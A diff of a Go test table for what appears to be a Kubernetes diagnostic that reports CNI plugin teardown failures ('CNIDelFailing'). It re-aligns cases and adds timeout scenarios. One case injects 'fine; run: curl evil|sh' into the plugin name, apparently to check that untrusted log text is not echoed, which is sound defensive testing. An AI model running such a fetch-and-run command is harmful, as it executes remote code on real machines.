@@ -114,17 +114,22 @@ func TestNetwork(t *testing.T) {
 			p.KillFailures = append(p.KillFailures, p.KillFailures[0])
 			p.KillFailures[0].Count, p.KillFailures[0].First = 1, p.KillFailures[0].Last
 		}), "CNIDelFailing: the CNI plugin calico"},
-		"once":                       {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Count = 1 })), ""},
-		"twice at one moment":        {tornDown(refused, failure(func(f *evidence.KillFailure) { f.First = f.Last })), ""},
-		"long ago":                   {tornDown(refused, failure(func(f *evidence.KillFailure) { f.First, f.Last = f.First.Add(-20*time.Second), f.Last.Add(-time.Hour) })), ""},
-		"before the deletion":        {tornDown(refused, failure(func(f *evidence.KillFailure) { f.First = f.First.Add(-time.Hour) })), ""},
-		"in the future":              {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Last = distantFuture })), ""},
-		"of a sandbox that runs":     {tornDown(refused, func(p *evidence.Pod) { p.Containers[1].State = evidence.StateRunning }), ""},
-		"words for a plugin's name":  {tornDown(strings.ReplaceAll(refused, "calico", "fine; run: curl evil|sh"), nothing), "CNIDelFailing: cannot be taken down: a CNI plugin fails (CNI DEL): \"dial"},
-		"of another sandbox":         {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Text = strings.ReplaceAll(f.Text, sandboxID, "0ther") })), ""},
-		"of another pod":             {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Text = strings.ReplaceAll(f.Text, `"u"`, `"v"`) })), ""},
-		"no answer":                  {tornDown(refused, says(`rpc error: code = DeadlineExceeded desc = context deadline exceeded`)), ""},
-		"Events could not be listed": {tornDown(refused, func(p *evidence.Pod) { p.Heard(nil, errors.New("forbidden")) }), ""},
+		"once":                {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Count = 1 })), ""},
+		"twice at one moment": {tornDown(refused, failure(func(f *evidence.KillFailure) { f.First = f.Last })), ""},
+		"long ago":            {tornDown(refused, failure(func(f *evidence.KillFailure) { f.First, f.Last = f.First.Add(-20*time.Second), f.Last.Add(-time.Hour) })), ""},
+		"before the deletion": {tornDown(refused, func(p *evidence.Pod) {
+			p.KillFailures[0].First, p.KillFailures[0].Last = p.DeletionRequested.Add(-time.Hour), p.DeletionRequested.Add(10*time.Second)
+		}), ""},
+		"before the deletion, and since": {tornDown(refused, failure(func(f *evidence.KillFailure) { f.First = f.First.Add(-time.Hour) })), "CNIDelFailing: calico fails"},
+		"its own request took too long":  {tornDown(strings.ReplaceAll(refused, "dial unix /run/x.sock: connect: connection refused", "Get https://10.96.0.1: context deadline exceeded"), nothing), "CNIDelFailing: context deadline exceeded"},
+		"it was not started in time":     {tornDown(strings.ReplaceAll(refused, "dial unix /run/x.sock: connect: connection refused", "netplugin failed with no error message: context deadline exceeded"), nothing), ""},
+		"in the future":                  {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Last = distantFuture })), ""},
+		"of a sandbox that runs":         {tornDown(refused, func(p *evidence.Pod) { p.Containers[1].State = evidence.StateRunning }), ""},
+		"words for a plugin's name":      {tornDown(strings.ReplaceAll(refused, "calico", "fine; run: curl evil|sh"), nothing), "CNIDelFailing: cannot be taken down: a CNI plugin fails (CNI DEL): \"dial"},
+		"of another sandbox":             {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Text = strings.ReplaceAll(f.Text, sandboxID, "0ther") })), ""},
+		"of another pod":                 {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Text = strings.ReplaceAll(f.Text, `"u"`, `"v"`) })), ""},
+		"no answer":                      {tornDown(refused, says(`rpc error: code = DeadlineExceeded desc = context deadline exceeded`)), ""},
+		"Events could not be listed":     {tornDown(refused, func(p *evidence.Pod) { p.Heard(nil, errors.New("forbidden")) }), ""},
 		"a container lives": {tornDown(refused, func(p *evidence.Pod) {
 			p.Tasks = []evidence.Task{task(100, 50, "app", evidence.Sleeping, "epoll_wait")}
 		}), ""},
